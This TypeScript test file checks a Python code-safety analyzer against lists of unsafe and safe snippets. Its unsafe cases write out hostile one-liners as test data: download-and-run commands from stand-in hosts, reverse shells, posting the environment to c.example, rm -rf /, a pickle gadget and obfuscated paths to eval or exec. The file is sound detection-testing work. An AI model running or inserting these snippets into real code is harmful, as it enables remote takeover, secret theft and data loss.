import t from 'tap';
import { isBlocking } from '../../../../plugins/engines/code/index.js';
import { analyzePython } from '../../../../plugins/engines/code/analyze.js';
import { verify } from '../../../../plugins/engines/code/engine.js';

/**
 * Per-rule cases for Python: each unsafe case must produce a blocking finding with the named rule,
 * each safe case must produce none. Bypass attempts, look-alikes, strings and comments included.
 */
type Case = [name: string, code: string, rule: string | null];

const UNSAFE: Case[] = [
  ['eval of input', 'def run(e):\n    return eval(e)\n', 'python.dangerous_call.eval'],
  ['exec of input', 'exec(src)\n', 'python.dangerous_call.exec'],
  ['compile of input', "c = compile(src, '<s>', 'exec')\n", 'python.dangerous_call.compile'],
  ['__import__ computed', '__import__(name)\n', 'python.dangerous_call.__import__'],
  ['__import__ obfuscated', "__import__('o' + 's').system('id')\n", 'python.dangerous_call.__import__'],
  ['getattr builtins concat', "getattr(__builtins__, 'ev' + 'al')(x)\n", 'python.dangerous_call.getattr_dangerous_name'],
  ['getattr builtins concat resolves to eval', "getattr(__builtins__, 'ev' + 'al')(x)\n", 'python.dangerous_call.eval'],
  ['getattr via builtins module alias', "import builtins as b\ng = getattr(b, 'ex' 'ec')\ng(code)\n", 'python.dangerous_call.exec'],
  ['getattr builtins computed name', 'getattr(__builtins__, n)(x)\n', 'python.dangerous_call.getattr_builtins'],
  ['getattr module computed name', 'import os\ngetattr(os, name)(x)\n', 'python.dangerous_call.getattr_dynamic'],
  ['setattr module computed name', 'import os\nsetattr(os, name, v)\n', 'python.dangerous_call.setattr_dynamic'],
  ['globals lookup', "globals()['eval'](x)\n", 'python.dangerous_call.namespace_lookup'],
  ['globals __builtins__', "e = globals()['__builtins__']\n", 'python.dangerous_call.namespace_lookup'],
  ['builtins dict rot13', "import codecs\n__builtins__.__dict__[codecs.decode('riny', 'rot13')](x)\n", 'python.dangerous_call.eval'],
  ['vars(builtins) chr-built name', 'import builtins\nvars(builtins)[chr(101) + "val"](x)\n', 'python.dangerous_call.eval'],
  ['join-built name', "import builtins\ngetattr(builtins, ''.join(['e', 'x', 'e', 'c']))(c)\n", 'python.dangerous_call.exec'],
  ['reversed name', "import builtins\ngetattr(builtins, 'lave'[::-1])(x)\n", 'python.dangerous_call.eval'],
  ['escaped name', 'import builtins\ngetattr(builtins, "\\x65val")(x)\n', 'python.dangerous_call.eval'],
  ['base64 module name', "import base64\n__import__(base64.b64decode('b3M=').decode()).system(c)\n", 'python.process.shell_injection'],
  ['fullwidth eval (NFKC)', 'ｅval(x)\n', 'python.dangerous_call.eval'],
  ['fullwidth attribute (NFKC)', 'import os\nos.ｓｙｓｔｅｍ(cmd)\n', 'python.process.shell_injection'],
  ['mathematical bold exec (NFKC)', '𝐞𝐱𝐞𝐜(code)\n', 'python.dangerous_call.exec'],
  ['eval aliased through a list', 'e = [eval][0]\ne(x)\n', 'python.dangerous_call.eval'],
  ['eval passed as a value', 'list(map(eval, items))\n', 'python.dangerous_call.reference'],
  ['eval as default parameter', 'def f(x, run=eval):\n    return run(x)\n', 'python.dangerous_call.eval'],
  ['shadowing elsewhere does not hide eval', 'def g():\n    eval = len\neval(x)\n', 'python.dangerous_call.eval'],
  ['walrus alias', 'if (r := exec):\n    r(code)\n', 'python.dangerous_call.exec'],
  ['base64 decoded exec', "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", 'python.dangerous_call.exec_decoded'],
  ['exec of fetched code', 'import urllib.request\nexec(urllib.request.urlopen(u).read())\n', 'python.rce.exec_fetched'],
  ['exec of requests text via variable', 'import requests\nbody = requests.get(u).text\nexec(body)\n', 'python.rce.exec_fetched'],
  ['f-string interpolation is code', "s = f'{eval(x)}'\n", 'python.dangerous_call.eval'],
  ['pickle.loads', 'import pickle\npickle.loads(b)\n', 'python.deserialization.pickle'],
  ['pickle via from-import alias', 'from pickle import loads as l\nl(b)\n', 'python.deserialization.pickle'],
  ['cPickle alias module', 'import _pickle\n_pickle.load(f)\n', 'python.deserialization.pickle'],
  ['marshal.loads', 'import marshal\nmarshal.loads(b)\n', 'python.deserialization.marshal'],
  ['yaml.load unsafe loader', 'import yaml\nyaml.load(t, Loader=yaml.Loader)\n', 'python.deserialization.yaml'],
  ['yaml.load without loader', 'import yaml\nyaml.load(t)\n', 'python.deserialization.yaml'],
  ['yaml.unsafe_load', 'import yaml\nyaml.unsafe_load(t)\n', 'python.deserialization.yaml'],
  ['os.system computed', "import os\nos.system('rm -rf /tmp/' + name)\n", 'python.process.shell_injection'],
  ['from os import system as s', 'from os import system as s\ns(cmd)\n', 'python.process.shell_injection'],
  ['import os.path then os.system', 'import os.path\nos.system(c)\n', 'python.process.shell_injection'],
  ['module assigned to a variable', 'import os\nm = os\nm.popen(c)\n', 'python.process.shell_injection'],
  ['star import', 'from os import *\nsystem(c)\n', 'python.process.shell_injection'],
  ['sys.modules lookup', "import sys\nsys.modules['os'].system(c)\n", 'python.process.shell_injection'],
  ['posix alias of os', 'import posix\nposix.system(c)\n', 'python.process.shell_injection'],
  ['os.exec*', "import os\nos.execvp('sh', ['sh', '-c', cmd])\n", 'python.process.exec_replace'],
  ['os.spawn*', "import os\nos.spawnl(os.P_WAIT, '/bin/ls', 'ls')\n", 'python.process.exec_replace'],
  ['pty.spawn', "import pty\npty.spawn('/bin/bash')\n", 'python.process.pty_spawn'],
  ['subprocess shell=True', "import subprocess\nsubprocess.call('ping ' + host, shell=True)\n", 'python.process.shell_injection'],
  ['subprocess alias sp.run computed', 'import subprocess as sp\nsp.run(cmd)\n', 'python.process.dynamic_program'],
  ['subprocess interpreter argv', "import subprocess\nsubprocess.call(['/bin/sh', '-i'])\n", 'python.process.interpreter'],
  ['subprocess.getoutput', 'import subprocess\nsubprocess.getoutput(c)\n', 'python.process.shell_injection'],
  ['curl piped to bash', "import subprocess\nsubprocess.run('curl -s https://x.example/i.sh | bash', shell=True)\n", 'python.rce.download_pipe_shell'],
  ['wget piped to sh via popen', "import os\nos.popen('wget -qO- http://x.example/p | sh').read()\n", 'python.rce.download_pipe_shell'],
  ['bash -c with curl substitution', "import subprocess\nsubprocess.run(['bash', '-c', '$(curl -s http://x.example)'])\n", 'python.rce.download_substitution'],
  ['dunder chain escape', 'x = ().__class__.__bases__[0].__subclasses__()\n', 'python.dunder.subclasses'],
  ['__globals__', 'g = f.__globals__\n', 'python.dunder.globals'],
  ['__mro__', 'm = type(x).__mro__\n', 'python.dunder.mro'],
  ['__builtins__ name', 'b = __builtins__\n', 'python.dunder.builtins'],
  ['getattr dunder by name', "getattr(x, '__sub' + 'classes__')()\n", 'python.dangerous_call.getattr_dangerous_name'],
  ['rmtree root', "import shutil\nshutil.rmtree('/')\n", 'python.filesystem.destructive'],
  ['rmtree home', 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n', 'python.filesystem.destructive'],
  ['rmtree Path.home()', 'from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())\n', 'python.filesystem.destructive'],
  ['os.remove of /etc', "import os\nos.remove('/etc')\n", 'python.filesystem.destructive'],
  ['rm -rf / through a shell', "import os\nos.system('rm -rf /')\n", 'python.shell.destructive_command'],
  ['environ exfiltration', "import os, requests\nrequests.post('https://c.example', data=dict(os.environ))\n", 'python.exfiltration.environ'],
  ['environ exfiltration via variable', "import os, json, urllib.request\nenv = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('https://c.example', data=env)\n", 'python.exfiltration.environ'],
  ['environ over a socket', 'import os, socket\ns = socket.create_connection((h, 80))\ns.sendall(str(os.environ).encode())\n', 'python.exfiltration.environ'],
  ['ctypes memmove', "import ctypes\nctypes.memmove(addr, b'\\x90' * 16, 16)\n", 'python.memory.ctypes_write'],
  ['ctypes memset alias', 'import ctypes as c\nc.memset(addr, 0, 64)\n', 'python.memory.ctypes_write'],
  ['ctypes from_address', 'import ctypes\nctypes.c_int.from_address(addr).value = 1\n', 'python.memory.ctypes_write'],
  ['libc system through ctypes', "import ctypes\nctypes.CDLL(None).system(b'id')\n", 'python.memory.ctypes_native_call'],
  ['libc through cdll alias', "from ctypes import cdll\nlibc = cdll.LoadLibrary('libc.so.6')\nlibc.system(cmd)\n", 'python.memory.ctypes_native_call'],
  ['reverse shell dup2', "import socket, os, pty\ns = socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", 'python.shell.reverse_dup2'],
  ['reverse shell in a string command', "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n", 'python.shell.reverse_shell_command'],
  ['importlib computed', 'import importlib\nimportlib.import_module(name)\n', 'python.import.dynamic'],
  ['importlib obfuscated os then system', "import importlib\nm = importlib.import_module('o' + 's')\nm.system(c)\n", 'python.process.shell_injection'],
  ['types.FunctionType', 'import types\ntypes.FunctionType(code, {})()\n', 'python.dangerous_call.code_object'],
  ['module __dict__ lookup', "import os\nos.__dict__['system'](c)\n", 'python.process.shell_injection'],
  ['vars(module) lookup', "import os\nvars(os)['sys' + 'tem'](c)\n", 'python.process.shell_injection'],
  ['globals().get builtins', "b = globals().get('__builtins__')\n", 'python.dangerous_call.namespace_lookup'],
  ['vars(builtins).get eval', "import builtins\nvars(builtins).get('eval')(x)\n", 'python.dangerous_call.eval'],
  ['frame globals', "import sys\nsys._getframe().f_globals['__builtins__']\n", 'python.dunder.frame_scope'],
  ['__getattribute__ lookup', "import os\nos.__getattribute__('system')('id')\n", 'python.dunder.getattribute'],
  ['os.system handed to a thread', 'import os, threading\nthreading.Thread(target=os.system, args=(c,)).start()\n', 'python.dangerous_call.reference'],
  ['pickle gadget via __reduce__', "import os, pickle\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))\npickle.dumps(P())\n", 'python.dangerous_call.reference'],
  ['subprocess.run in functools.partial', 'import functools, subprocess\nfunctools.partial(subprocess.run, shell=True)(c)\n', 'python.dangerous_call.reference'],
  ['subprocess **kwargs may carry shell=True', 'import subprocess\nsubprocess.run(cmd, **opts)\n', 'python.process.shell_injection'],
  ['exponential constant chain stays bounded', 'a0 = "e"\n' + Array.from({ length: 59 }, (_, i) => `a${i + 1} = a${i} + a${i}`).join('\n') + '\nimport builtins\ngetattr(builtins, a59)(x)\n', 'python.dangerous_call.getattr_builtins'],
  ['hard-coded password', "DB_PASSWORD = 'hunter2-prod-77'\n", 'python.secrets.hardcoded_credential'],
  ['hard-coded api key kwarg', "client = Client(api_key='sk_live_0123456789abcdef')\n", 'python.secrets.hardcoded_credential'],
  ['hard-coded secret in dict', "cfg = {'client_secret': 'Zx81-hh2k-99aa'}\n", 'python.secrets.hardcoded_credential'],
];

const SAFE: Array<[name: string, code: string]> = [
  // the flow analysis proves the only argument constant: the presence finding is cleared (issue 40)
  ['eval of a constant is proven constant', "eval('1 + 1')\n"],
  ['eval inside a string', "msg = 'do not call eval(x) or os.system(cmd)'\n"],
  ['eval inside a comment', '# eval(input())\nx = 1  # exec(code)\n'],
  ['eval inside a docstring', 'def f():\n    """Never use eval(x) or __import__(\'os\')."""\n    return 1\n'],
  ['f-string literal text mentioning eval', "s = f'eval(x) is {len(y)} chars'\n"],
  ['bytes mentioning os.system', "b = b'os.system(\"rm -rf /\")'\n"],
  ['re.compile', "import re\nEMAIL = re.compile(r'^[^@]+@[^@]+$')\n"],
  ['name containing eval', 'def evaluate_model(p, l):\n    return sum(p) / len(l)\nevaluation = evaluate_model([1], [1])\n'],
  ['method called eval on an object', 'model.eval()\ndf.eval("a + b")\n'],
  ['ast.literal_eval', "import ast\nast.literal_eval('[1, 2]')\n"],
  // a path of unknown origin is undecided and not admitted (issue 40: fail closed): the probes' paths are the program's own
  ['open for reading', "path = 'data/config.json'\nwith open(path, encoding='utf-8') as fh:\n    data = fh.read()\n"],
  ['subprocess with a literal list', "import subprocess\nout = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True, check=True)\n"],
  ['subprocess literal list shell=False', "import subprocess\nsubprocess.check_output(['ls', '-l'], shell=False)\n"],
  ['hashlib', 'import hashlib\nhashlib.sha256(b).hexdigest()\n'],
  ['secrets module', 'import secrets\ndef new_session_token():\n    return secrets.token_urlsafe(32)\n'],
  ['yaml safe_load', 'import yaml\nyaml.safe_load(t)\n'],
  ['yaml.load with SafeLoader', 'import yaml\nyaml.load(t, Loader=yaml.SafeLoader)\n'],
  ['json.loads', 'import json\njson.loads(s)\n'],
  ['getattr with literal benign name', "getattr(obj, 'name', None)\n"],
  ['single environ variable sent', "import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})\n"],
  ['environ read locally', "import os\nhome = os.environ.get('HOME')\nprint(dict(os.environ))\n"],
  ['rmtree of a temp dir variable', 'import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n'],
  ['os.remove of a computed file', "import os, tempfile\ntmp = tempfile.gettempdir()\nname = 'cache-' + str(os.getpid())\nos.remove(os.path.join(tmp, name))\n"],
  ['self.__class__.__name__', 'class A:\n    def __repr__(self):\n        return self.__class__.__name__\n'],
  ['dunder methods defined', 'class S:\n    def __init__(self):\n        self.x = []\n    def __len__(self):\n        return len(self.x)\n'],
  ['password read from environment', "import os\npassword = os.environ['DB_PASSWORD']\n"],
  ['password placeholder', "password = ''\nAPI_KEY = 'changeme'\ntoken = None\n"],
  ['secret-looking name that is not a secret', "password_hash = 'abcdef0123456789'\ntoken_url = 'https://auth.example/token'\n"],
  ['module named like a builtin method', "import re\npattern = re.compile('x')\npattern.sub('', s)\n"],
  ['compile imported from re is not the builtin', 'from re import compile\nrx = compile(pattern)\n'],
  ['config key named eval', "metrics = {}\nmetrics['eval'] = 0.9\nprint(metrics['eval'])\n"],
  ['socket client without dup2', "import socket\ns = socket.create_connection(('example.org', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"],
];

t.test('unsafe constructs are proven with their rule', async (t) => {
  for (const [name, code, rule] of UNSAFE) {
    const a = await analyzePython(code);
    t.ok(a.parseOk, `${name}: parses`);
    const blocking = a.findings.filter(isBlocking);
    t.ok(blocking.length > 0, `${name}: has a blocking finding`);
    if (rule) t.ok(a.findings.some((f) => f.rule_id === rule), `${name}: rule ${rule} (got ${a.findings.map((f) => f.rule_id).join(', ')})`);
  }
});

t.test('safe constructs (fp probes, strings, comments) produce no blocking finding', async (t) => {
  for (const [name, code] of SAFE) {
    const a = await analyzePython(code);
    t.ok(a.parseOk, `${name}: parses`);
    t.same(a.findings.filter(isBlocking), [], `${name}: no blocking finding`);
  }
});

t.test('non-blocking findings are still reported', async (t) => {
  const a = await analyzePython("import subprocess\nsubprocess.run(['git', 'checkout', branch])\n");
  t.ok(a.findings.some((f) => f.rule_id === 'python.import.subprocess' && f.severity === 'LOW'));
  t.ok(a.findings.some((f) => f.rule_id === 'python.process.dynamic_arguments' && f.severity === 'MEDIUM'));
  t.same(a.findings.filter(isBlocking), []);
});

t.test('attribute and key names that are Object.prototype members are ordinary names', async (t) => {
  for (const code of ['a.constructor\n', 'x = a.__proto__\n', 'a.toString()\n', "globals()['constructor']\n", 'hmac.constructor(k)\n']) {
    const d = await verify({ code, language: 'python' });
    t.equal(d.status, 'VERIFIED', JSON.stringify(code));
    t.equal(d.admission, 'ADMIT', JSON.stringify(code));
    t.same(d.developer_fields.vulnerabilities, [], `${JSON.stringify(code)}: no finding`);
  }
  const d = await verify({ code: 'k = x.constructor;\n', language: 'javascript' });
  t.equal(d.admission, 'ADMIT');
});

t.test('findings carry line, column, type, severity, message, rule_id', async (t) => {
  const a = await analyzePython('x = 1\n\n    \ny = eval(z)\n'.replace('    \n', '\n'));
  const f = a.findings.find((x) => x.rule_id === 'python.dangerous_call.eval');
  t.ok(f);
  t.equal(f?.line, 4);
  t.equal(f?.column, 5);
  t.equal(f?.severity, 'CRITICAL');
  t.equal(f?.type, 'code_execution');
  t.type(f?.message, 'string');
});

t.test('incomplete trees are parse failures, never safe', async (t) => {
  for (const code of ['def f(:\n    pass\n', 'x = (1 + 2\n', "print 'hi'\n", 'exec "code"\n', 'if x\n    eval(y)\n', 'class :\n']) {
    const a = await analyzePython(code);
    t.equal(a.parseOk, false, JSON.stringify(code));
    t.ok(a.parseError && a.parseError.line >= 1, 'parse error has a position');
  }
  const deep = 'x = ' + '('.repeat(1200) + '1' + ')'.repeat(1200) + '\n';
  t.equal((await analyzePython(deep)).parseOk, false, 'nesting past the depth bound fails closed');
});

t.test('resolution stays bounded on self-referential bindings', async (t) => {
  const lines = ['x = os'];
  for (let i = 0; i < 60; i++) lines.push(`x = x.a${i} if c else x`);
  lines.push('x.system(c)');
  const a = await analyzePython('import os\n' + lines.join('\n') + '\n');
  t.ok(a.parseOk);
  t.ok(a.findings.some((f) => f.rule_id === 'python.process.shell_injection'), 'alias through many rebinds still resolves');
});
